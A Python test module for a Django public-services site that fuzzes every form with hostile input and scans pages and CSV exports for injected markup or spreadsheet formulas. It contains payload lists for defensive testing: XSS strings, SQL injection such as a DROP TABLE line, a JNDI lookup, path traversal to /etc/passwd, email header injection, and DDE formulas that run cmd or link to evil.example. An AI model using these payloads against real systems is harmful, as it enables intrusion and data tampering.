"""Hostile input for tests: payloads, hypothesis strategies that fill any Django
form, and the checks every submission of a public form must pass.

A ``Target`` names a page with a form and how to reach it (who is signed in,
which objects exist). ``fuzz(target)`` fetches the page, takes the form from
the template context (so a field added tomorrow is fuzzed tomorrow), and
submits hypothesis-drawn data: arbitrary Unicode with control characters, NUL
bytes, right-to-left marks, emoji and combining marks; 100,000-character
strings; huge, negative and not-a-number numbers; impossible dates; missing
fields and repeated ones. Each submission must:

- never raise or answer with a 5xx;
- when refused, re-render with the GOV.UK error summary, each error linked to
  its field and shown next to it (``id_<field>-error``);
- when refused, leave every table of the target's apps as it was;
- when accepted, redirect to a page that renders (the saved data shown back).

Each submission runs in a transaction that is rolled back, so every example
starts from the same data.
"""

from __future__ import annotations

import csv
import datetime
import io
import itertools
import os
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import urlsplit

from bs4 import BeautifulSoup
from django import forms
from django.apps import apps
from django.core.cache import cache
from django.db import models, transaction
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from civic.forms.widgets import GovukDateField

# How many submissions per form; HOSTILE_EXAMPLES=500 for a long local run.
EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", "15"))

# Submissions made in this run, for the figure in docs/RELIABILITY.md.
TRIED: dict[str, int] = {}

KEEP = object()  # the baseline's value
MISSING = object()  # the field is left out of the request

# --- Payloads --------------------------------------------------------------------

CONTROL_AND_UNICODE = [
    "\x00",
    "a\x00b",
    "\x00" * 10,
    "\r",
    "\r\n\r\n",
    "\x01\x02\x07\x08\x0b\x0c\x1b\x7f",
    "\u202eevil\u202c",  # right-to-left override
    "\u200f\u200e\u2066\u2069",  # direction marks and isolates
    "\u200b\u200d\ufeff",  # zero-width characters, byte order mark
    "\u2028\u2029",  # line and paragraph separators
    "🙂👩🏽‍🚀🏳️‍🌈",
    "e" + "\u0301" * 200,  # one letter, two hundred accents
    "Z̷̢͎a̵̰͝l̸͉̈g̶̞̓o̴͔͝",
    "ﷺ𒐫꧅",  # very wide glyphs
    "Ａｂｃ１２３",  # full-width letters and digits
    "٣٤٥",  # Arabic-Indic digits
    "\uffff\ufffe",
    " ",
    "\t",
    "",
]

XSS = [
    "<script>alert('xss')</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    '<a href="javascript:alert(1)">click</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "{{ request.user.password }}",
    "{% debug %}",
    "{{7*7}}",
    "[click](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
]

INJECTION = [
    "' OR '1'='1",
    "'; DROP TABLE civic_user; --",
    "%00",
    "%s%s%s%n",
    "${jndi:ldap://x/a}",
    "../../../../etc/passwd",
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "None",
    "null",
    "undefined",
    "true",
]

NUMBERS = [
    "0",
    "-0",
    "-1",
    "-99999999999999999999999999",
    "99999999999999999999999999",
    "2147483648",
    "9223372036854775808",
    "1e309",
    "-1e309",
    "1e5",
    "NaN",
    "nan",
    "inf",
    "-Infinity",
    "1.5",
    "0.001",
    "1,000",
    "£5",
    "£2.999",
    "5p",
    "１２",
    "٣",
    "0x1F",
    " 7 ",
    "7\x00",
    "1_000",
    "+5",
    "--5",
    "",
]

DATE_PARTS = [
    ("31", "2", "2024"),
    ("29", "2", "2023"),
    ("0", "0", "0"),
    ("32", "13", "2024"),
    ("1", "1", "0001"),
    ("1", "1", "999"),
    ("31", "12", "9999"),
    ("1", "1", "10000"),
    ("-1", "-1", "-2024"),
    ("99999999999999999999", "1", "2024"),
    ("1", "1", "1e4"),
    ("", "3", "2020"),
    ("１", "１", "２０２０"),
    ("1\x00", "1", "2000"),
]

DATES = [
    "2024-02-30",
    "0000-00-00",
    "9999-12-31",
    "10000-01-01",
    "31/02/2024",
    "2024-13-01T25:61",
    "yesterday",
    "-1",
]

EMAILS = [
    "a@b.c\x00",
    "a" * 300 + "@example.com",
    "ä@ö.de",
    "<script>@example.com",
    "x@[127.0.0.1]",
    "@",
    "a@b@c",
    "name@example.com\r\nBcc: victim@example.com",
]

URLS = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://[::1",
    "http://" + "a" * 300 + ".com",
    "//evil.example",
    "https://example.com/\x00",
    "ftp://example.com",
    "http://exa mple.com",
]

text_chars = st.characters(codec="utf-8")  # any code point but lone surrogates

hostile_text = st.one_of(
    st.text(text_chars, max_size=200),
    st.sampled_from(CONTROL_AND_UNICODE + XSS + INJECTION),
    st.lists(st.sampled_from(CONTROL_AND_UNICODE + XSS) | st.text(max_size=5)).map(
        "".join
    ),
    st.builds(
        lambda unit, n: unit * n,
        st.sampled_from(["A", "é", "🙂", "\x00", "<", "e\u0301", "\r\n"]),
        st.sampled_from([256, 1_001, 10_001, 100_000]),
    ),
)

hostile_number = st.one_of(
    st.sampled_from(NUMBERS),
    st.integers().map(str),
    st.floats().map(str),
    st.decimals(allow_nan=True).map(str),
    hostile_text,
)


def _choice_values(field: forms.Field) -> list[str]:
    values = []
    for value, label in getattr(field, "choices", ()):
        if isinstance(label, list | tuple):  # an optgroup
            values.extend(str(getattr(v, "value", v)) for v, _ in label)
        elif value not in ("", None):
            values.append(str(getattr(value, "value", value)))
    return values


def subwidget_names(bound: forms.BoundField) -> list[str]:
    widget = bound.field.widget
    if isinstance(widget, forms.MultiWidget):
        return [bound.html_name + suffix for suffix in widget.widgets_names]
    return [bound.html_name]


def hostile_value(bound: forms.BoundField) -> st.SearchStrategy:
    """Values, shaped for this field, that a hostile or clumsy visitor sends.

    A value is a string, a list of strings (a repeated key) or, for a field
    of several boxes, a dict of box name to value."""
    field = bound.field
    if isinstance(field, forms.MultiValueField):
        names = subwidget_names(bound)
        parts = (
            st.one_of(
                st.sampled_from(DATE_PARTS).map(list),
                st.lists(
                    st.one_of(hostile_number, st.just("")), min_size=3, max_size=3
                ),
            )
            if isinstance(field, GovukDateField)
            else st.lists(hostile_text, min_size=len(names), max_size=len(names))
        )
        return parts.map(lambda values: dict(zip(names, values, strict=False)))
    if isinstance(field, forms.ModelChoiceField | forms.ChoiceField):
        valid = _choice_values(field)
        one = st.sampled_from(valid) if valid else hostile_text
        return st.one_of(
            one,
            st.lists(one, min_size=2, max_size=5),
            hostile_text,
            hostile_number,
            st.lists(hostile_text, min_size=1, max_size=3),
        )
    if isinstance(field, forms.IntegerField | forms.DecimalField | forms.FloatField):
        return hostile_number
    if isinstance(field, forms.DateField | forms.DateTimeField | forms.TimeField):
        return st.one_of(st.sampled_from(DATES), hostile_number, hostile_text)
    if isinstance(field, forms.BooleanField):
        return st.one_of(
            st.sampled_from(["on", "off", "true", "false", "0", "1", "", "\x00"]),
            hostile_text,
        )
    if isinstance(field, forms.EmailField):
        return st.one_of(st.sampled_from(EMAILS), hostile_text)
    if isinstance(field, forms.URLField):
        return st.one_of(st.sampled_from(URLS), hostile_text)
    if isinstance(field, forms.FileField):
        return st.just(KEEP)  # uploads are tested on their own
    if "amount" in bound.name or "pounds" in bound.name or "pence" in bound.name:
        return st.one_of(hostile_number, hostile_text)
    return st.one_of(hostile_text, st.lists(hostile_text, min_size=2, max_size=3))


def form_data(form: forms.BaseForm, baseline: dict) -> st.SearchStrategy:
    """Request data: the baseline with some fields hostile, missing or repeated."""
    per_field = {}
    for name in form.fields:
        bound = form[name]
        per_field[name] = st.one_of(
            st.just(KEEP), st.just(MISSING), hostile_value(bound), hostile_value(bound)
        )

    def build(choices: dict) -> dict:
        data = dict(baseline)
        for name, choice in choices.items():
            bound = form[name]
            if choice is KEEP:
                continue
            for key in subwidget_names(bound):
                data.pop(key, None)
            if choice is MISSING:
                continue
            if isinstance(choice, dict):
                data.update(choice)
            else:
                data[bound.html_name] = choice
        return data

    return st.fixed_dictionaries(per_field).map(build)


def baseline_data(form: forms.BaseForm, overrides: dict | None = None) -> dict:
    """Data that a careful visitor might send: the initial values, or the first
    choice, or something plain. Overrides give what a form needs to pass."""
    data: dict = {}
    for name, fld in form.fields.items():
        bound = form[name]
        if isinstance(fld, forms.FileField):
            continue
        if isinstance(fld, GovukDateField):
            names = subwidget_names(bound)
            data.update(dict(zip(names, ["1", "6", "1990"], strict=True)))
            continue
        initial = bound.value()
        if isinstance(fld, forms.MultipleChoiceField):
            values = _choice_values(fld)
            data[bound.html_name] = values[:1]
        elif isinstance(fld, forms.ChoiceField | forms.ModelChoiceField):
            values = _choice_values(fld)
            data[bound.html_name] = (
                str(initial) if initial not in (None, "") else (values or [""])[0]
            )
        elif isinstance(fld, forms.BooleanField):
            data[bound.html_name] = "on"
        elif initial not in (None, ""):
            data[bound.html_name] = (
                initial.isoformat()
                if isinstance(initial, datetime.date)
                else str(initial)
            )
        elif isinstance(fld, forms.IntegerField | forms.DecimalField):
            data[bound.html_name] = "5"
        elif isinstance(fld, forms.EmailField):
            data[bound.html_name] = "someone@example.com"
        elif isinstance(fld, forms.URLField):
            data[bound.html_name] = "https://example.com"
        else:
            data[bound.html_name] = "A reasonable answer"
    data.update(overrides or {})
    return data


# --- Targets ---------------------------------------------------------------------


@dataclass
class Target:
    """A page with a public form, and how to reach it.

    ``setup`` makes what the page needs and returns ``(client, url)``, the
    client signed in as whoever may use the form, or ``(client, page_url,
    post_url)`` when the form posts somewhere else. ``apps`` are the app labels
    whose tables must not change when the form is refused. ``valid`` gives
    values that make the form pass (merged over the automatic baseline), so
    that hypothesis reaches the code behind validation too.
    """

    name: str
    setup: Callable[[], tuple[Client, str]]
    apps: tuple[str, ...]
    method: str = "post"
    valid: Callable[[forms.BaseForm], dict] | None = None
    form_key: str | None = None  # the context name, when a page has two forms
    examples: int = EXAMPLES
    # Tables a refused submission may legitimately touch (e.g. an audit log).
    ignore_models: tuple[str, ...] = ()
    # The baseline must be accepted (a redirect), which shows that the fuzzing
    # reaches the code that saves; False where no valid data can be given.
    baseline_accepted: bool = True

    def __str__(self) -> str:
        return self.name


def forms_in_context(response) -> list[tuple[str, forms.BaseForm]]:
    found = []
    seen = set()
    if response.context is None:
        return found
    for context in response.context:
        for key, value in context.flatten().items():
            if isinstance(value, forms.BaseForm) and id(value) not in seen:
                seen.add(id(value))
                found.append((key, value))
    return found


def page_form(response, form_key: str | None) -> forms.BaseForm:
    found = forms_in_context(response)
    if form_key:
        for key, value in found:
            if key == form_key:
                return value
        raise AssertionError(f"no {form_key!r} in the context: {found}")
    for key, value in found:
        if key == "form":
            return value
    assert found, "the page has no form in its context"
    return found[0][1]


def row_counts(labels: tuple[str, ...], ignore: tuple[str, ...] = ()) -> dict:
    counts = {}
    for label in labels:
        for model in apps.get_app_config(label).get_models():
            if model._meta.label in ignore or model._meta.proxy:
                continue
            if not model._meta.managed:
                continue
            counts[model._meta.label] = model._default_manager.count()
    return counts


def _soup(response) -> BeautifulSoup:
    return BeautifulSoup(response.content.decode(errors="replace"), "html.parser")


def check_errors_shown(response, form: forms.BaseForm) -> None:
    """GOV.UK error summary at the top; each error next to its field."""
    soup = _soup(response)
    summary = soup.select_one(".govuk-error-summary")
    assert summary is not None, "refused form has no error summary"
    links = {a.get("href") for a in summary.select("a")}
    for name, errors in form.errors.items():
        if name == forms.forms.NON_FIELD_ERRORS or name not in form.fields:
            continue
        bound = form[name]
        if bound.is_hidden:
            continue
        assert f"#{bound.auto_id}" in links, (
            f"error summary does not link to {bound.auto_id} ({errors})"
        )
        message = soup.find(id=f"{bound.auto_id}-error")
        assert message is not None, f"no error shown next to {name} ({errors})"
        assert "govuk-error-message" in message.get("class", []), message


def _encode(data: dict) -> dict:
    return {k: v for k, v in data.items() if v is not KEEP}


def submit(client: Client, target: Target, url: str, data: dict):
    if target.method == "get":
        return client.get(url, _encode(data))
    return client.post(url, _encode(data))


def check_submission(client: Client, target: Target, url: str, data: dict) -> str:
    """Submit once and check the response; "accepted", "refused" or "other"."""
    outcome = "other"
    cookies = client.cookies.copy()
    cache.clear()  # rate limits would otherwise answer 429 after a few tries
    try:
        with transaction.atomic():
            before = row_counts(target.apps, target.ignore_models)
            response = submit(client, target, url, data)
            assert response.status_code < 500, response.status_code
            found = [f for _, f in forms_in_context(response) if f.is_bound]
            refused = [f for f in found if f.errors]
            if refused and response.status_code == 200:
                outcome = "refused " + "; ".join(
                    str(form.errors.get_json_data()) for form in refused
                )
                for form in refused:
                    check_errors_shown(response, form)
                after = row_counts(target.apps, target.ignore_models)
                changed = {
                    k: (before[k], after[k]) for k in before if before[k] != after[k]
                }
                assert not changed, f"refused form changed rows: {changed}"
            elif response.status_code in (301, 302, 303):
                outcome = "accepted"
                location = response["Location"]
                if not urlsplit(location).netloc:
                    shown = client.get(location)
                    assert shown.status_code < 500, (location, shown.status_code)
            transaction.set_rollback(True)
    finally:
        client.cookies = cookies
    TRIED[target.name] = TRIED.get(target.name, 0) + 1
    return outcome


def fuzz(target: Target) -> None:
    """Submit ``target.examples`` hypothesis-drawn variations of its form."""
    client, *urls = target.setup()
    # (client, url), or (client, page url, url the form posts to)
    page_url, url = (urls[0], urls[0]) if len(urls) == 1 else urls
    page = client.get(page_url)
    assert page.status_code == 200, (page_url, page.status_code)
    form = page_form(page, target.form_key)
    baseline = baseline_data(form, target.valid(form) if target.valid else None)

    @settings(
        max_examples=target.examples,
        deadline=None,
        database=None,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
        ],
    )
    @given(data=form_data(form, baseline))
    def run(data):
        check_submission(client, target, url, data)

    # The baseline itself first: a target whose valid data is refused is
    # probably set up wrongly, which the report should show.
    outcome = check_submission(client, target, url, baseline)
    if target.baseline_accepted:
        assert outcome == "accepted", f"the baseline {baseline} was {outcome}"
    run()
    # With -s, one line per form: the figure for docs/RELIABILITY.md.
    print(f"\nhostile: {target.name}: {TRIED[target.name]} submissions")  # noqa: T201


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def walk(client: Client, url: str, overrides: dict | None = None) -> str:
    """Answer one page of a journey as a careful visitor would (the baseline
    data plus ``overrides``); returns where the answer leads."""
    page = client.get(url)
    assert page.status_code == 200, (url, page.status_code)
    form = page_form(page, None)
    response = client.post(url, baseline_data(form, overrides))
    assert response.status_code == 302, (
        url,
        response.status_code,
        [f.errors for _, f in forms_in_context(response)],
    )
    return response["Location"]


# --- XSS: poison every free-text column, then parse what is shown ---------------
# XSS checks for tests: poison every free-text column, then parse what pages
# and exports show.
#
# ``poison(labels)`` writes an XSS payload (from ``tests.hostile.XSS``) into
# every free-text column of every row of the given apps, straight into the
# database, as if each had been typed into a form; fields that are not free
# text (codes, tokens, postcodes, choices, slugs, emails) are left alone.
# ``assert_no_injection(html)`` parses a page and fails if any element or
# attribute that a payload carries exists: a script that runs ``alert``, an
# ``on*`` handler, a ``javascript:`` address, an ``<iframe>``, an injected
# ``<style>`` or ``<img src=x>``. ``assert_csv_safe(text)`` fails if a cell
# starts with = + - @ (a spreadsheet formula).

# Columns that hold something other than free text, by name.
NOT_FREE_TEXT = {
    "password",
    "token",
    "key",
    "reference",
    "payment_reference",
    "idempotency_key",
    "session_hash",
    "code",
    "gss_code",
    "postcode",
    "phone",
    "asset_tag",
    "serial_number",
    "file",
    "file_path",
    "content_type",
    "mime_type",
    "secret",
    "data",
    "provider",
    "uid",
    "slug",
    "path",
    "url_path",
    "draft_title",
    "locale",
    "translation_key",
    "company_number",
    "charity_number",
    "options_text",
    "show_if_answer",
    "kind",
    "status",
    "state",
    "language",
    "external_id",
    "uprn",
    "ward_code",
}
# Cells that a spreadsheet would run, stored alongside the HTML payloads.
FORMULAS = [
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0 + alert(",
    "-2+3+cmd|' /C calc'!A0 alert(",
    "@SUM(1+1)*cmd|' /C calc'!A0 alert(",
]
PAYLOADS = XSS + FORMULAS
SHORTEST = min(len(p) for p in PAYLOADS)

# Payloads that make no element or attribute of their own in an HTML page
# (they are dangerous elsewhere: a link's address, a template, markdown).
MARKERS = ("alert(", "javascript:")


def _free_text_fields(model) -> list[models.Field]:
    fields = []
    for field in model._meta.concrete_fields:
        if not isinstance(field, models.CharField | models.TextField):
            continue
        if isinstance(
            field,
            models.SlugField
            | models.EmailField
            | models.URLField
            | models.FilePathField
            | models.GenericIPAddressField,
        ):
            continue
        if field.primary_key or field.choices or field.name in NOT_FREE_TEXT:
            continue
        if field.name.endswith(("_code", "_token", "_key", "_id", "_hash", "_url")):
            continue
        if type(field).__name__ in ("RichTextField", "StreamField"):
            continue  # staff's rich text, sanitised by Wagtail's editor
        if field.max_length is not None and field.max_length < SHORTEST + 4:
            continue
        fields.append(field)
    return fields


def poison(
    labels: tuple[str, ...],
    *,
    also: tuple[type, ...] = (),
    payloads: list[str] | None = None,
) -> int:
    """Every free-text column of every row in ``labels`` (and the models in
    ``also``) gets a payload (``payloads``, or the HTML and spreadsheet ones
    in turn); returns how many values were written."""
    payloads = payloads or PAYLOADS
    counter = itertools.count()
    written = 0
    targets = [m for label in labels for m in apps.get_app_config(label).get_models()]
    targets += list(also)
    for model in targets:
        if model._meta.proxy or not model._meta.managed:
            continue
        fields = _free_text_fields(model)
        if not fields:
            continue
        for pk in list(model._default_manager.values_list("pk", flat=True)):
            values = {}
            for field in fields:
                n = next(counter)
                limit = field.max_length or 10_000
                fitting = [p for p in payloads if len(p) + 6 <= limit]
                values[field.name] = f"{fitting[n % len(fitting)]} #{n}"
            model._default_manager.filter(pk=pk).update(**values)
            written += len(values)
        _rerender(model)
    return written


def _rerender(model) -> None:
    """Columns derived from others (a post's HTML from its text) are made the
    way the app makes them, so the test sees what the app would store."""
    if model._meta.label == "talk_london.Post":
        from talk_london.discussions_text import render_post

        for post in model._default_manager.all():
            model._default_manager.filter(pk=post.pk).update(
                body=render_post(post.body_source)
            )


_URL_ATTRS = ("href", "src", "action", "formaction", "xlink:href", "srcdoc", "data")


def injected(html: str) -> list[str]:
    """What a payload made of the page: elements and attributes, as text."""
    soup = BeautifulSoup(html, "html.parser")
    found = []
    for tag in soup.find_all(True):
        for attr, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if attr.lower().startswith("on"):
                found.append(f"<{tag.name} {attr}={text!r}>")
            if attr.lower() in _URL_ATTRS:
                squeezed = "".join(text.split()).lower()
                if squeezed.startswith(("javascript:", "vbscript:", "data:text/html")):
                    found.append(f"<{tag.name} {attr}={text!r}>")
        if tag.name == "script":
            kind = (tag.get("type") or "").lower()
            if "json" not in kind and "alert(" in (tag.string or ""):
                found.append(str(tag)[:120])
        if tag.name in ("iframe", "frame", "object", "embed"):
            found.append(str(tag)[:120])
        if tag.name == "style" and "display:none" in (tag.string or ""):
            found.append(str(tag)[:120])
        if tag.name == "img" and tag.get("src") == "x":
            found.append(str(tag)[:120])
    return found


def assert_no_injection(html: str, where: str = "") -> None:
    found = injected(html)
    assert not found, f"{where}: payload made markup: {found[:5]}"


def shows_payload(html: str) -> bool:
    """The page shows a payload as text or in a form box (so the check above
    means something)."""
    soup = BeautifulSoup(html, "html.parser")
    shown = [soup.get_text()]
    for tag in soup.find_all(["input", "option"]):
        shown.append(str(tag.get("value", "")))
    text = " ".join(shown)
    return any(marker in text for marker in MARKERS)


def formula_cells(text: str) -> list[str]:
    cells = []
    lines = [line for line in text.lstrip("\ufeff").splitlines() if line[:1] != "#"]
    for row in csv.reader(io.StringIO("\n".join(lines))):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell):
                cells.append(cell)
    return cells


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
